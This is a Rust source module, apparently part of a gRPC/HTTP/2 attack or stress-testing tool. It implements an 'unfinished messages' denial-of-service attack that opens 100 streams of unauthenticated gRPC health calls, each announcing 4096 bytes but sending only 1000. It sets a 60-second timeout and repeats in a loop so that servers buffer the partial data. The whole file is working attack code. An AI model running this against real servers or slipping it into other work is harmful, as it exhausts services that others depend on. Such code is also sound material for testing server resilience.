//! Unfinished messages: calls of gRPC health on as many streams as allowed, each with fewer bytes
//! than the message announces. They need no token, and a server that waits for the rest buffers the
//! part that it has.

use serde_json::Value;

use super::checks::Checks;
use super::frames::RST_STREAM;
use super::{AttackArgs, storm};
use crate::Outcome;

/// Number of streams in flight on one connection: the common limit of servers.
const STREAMS: usize = 100;
/// Announced length of a message, in bytes.
const SAID: u32 = 4096;
/// Bytes of it that are sent: those of all streams are less than the initial window of a
/// connection.
const SENT: usize = 1000;

pub(crate) async fn run(args: AttackArgs) -> Outcome<Value> {
    Ok(storm(&args, |attacker| async move {
        let mut message = vec![0];
        message.extend_from_slice(&SAID.to_be_bytes());
        message.resize(message.len() + SENT, b'a');
        let checks = Checks {
            fields: &[("grpc-timeout", "60S")],
            message: &message,
            flags: 0,
            streams: STREAMS,
            // A stream that its client does not end is over when the server resets it, for any
            // reason.
            is_over: |frame| frame.kind == RST_STREAM,
        };
        while attacker.goes_on() {
            let _ = checks.pour(&attacker).await;
        }
    })
    .await)
}
